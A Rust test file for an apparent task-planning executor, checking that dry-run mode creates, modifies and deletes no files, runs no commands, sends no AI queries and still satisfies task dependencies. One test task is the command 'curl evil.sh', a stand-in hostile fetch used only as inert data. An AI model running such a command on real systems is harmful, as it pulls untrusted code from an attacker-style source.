//! Dry-run tests.

use rollplan::{LineChange, Task, ValidationType};

use crate::common::{Fixture, context};

#[tokio::test]
async fn test_dry_run_touches_nothing() {
    let mut fx = Fixture::new().await;
    fx.fs.insert(fx.path("existing.txt"), "keep me");
    let ctx = context().with_dry_run(true);
    let mut tasks = vec![
        Task::file_create("create", "existing.txt", "would clash"),
        Task::file_modify("modify", "missing.txt", vec![LineChange::delete(99)]),
        Task::file_delete("delete", "existing.txt"),
        Task::command_run("cmd", "curl", ["evil.sh"]),
        Task::ai_query("ask", "explain"),
        Task::validation("lint", ValidationType::Lint, Some("src".into())),
    ];

    let results = fx.executor.execute_tasks(&mut tasks, &ctx).await;

    let outputs: Vec<&str> = results.iter().map(|r| r.output.as_deref().unwrap()).collect();
    assert_eq!(
        outputs,
        vec![
            "[DRY RUN] Would create file: existing.txt",
            "[DRY RUN] Would modify file: missing.txt",
            "[DRY RUN] Would delete file: existing.txt",
            "[DRY RUN] Would run command: curl evil.sh",
            "[DRY RUN] Would query AI: explain",
            "[DRY RUN] Would validate: src (lint)",
        ]
    );
    assert_eq!(fx.fs.operation_count(), 0);
    assert_eq!(fx.runner.call_count(), 0);
    assert!(fx.ai.queries().is_empty());
    assert!(fx.executor.rollback_stack().is_empty());
    assert_eq!(fx.fs.contents(fx.path("existing.txt")).as_deref(), Some("keep me"));
}

#[tokio::test]
async fn test_dry_run_results_satisfy_dependencies() {
    let mut fx = Fixture::new().await;
    let ctx = context().with_dry_run(true);
    let mut tasks = vec![
        Task::file_create("a", "a.txt", "x"),
        Task::file_modify("b", "a.txt", vec![]).depends_on("a"),
    ];

    let results = fx.executor.execute_tasks(&mut tasks, &ctx).await;

    assert!(results.iter().all(|r| r.success));
    assert_eq!(fx.executor.history().len(), 2);
}
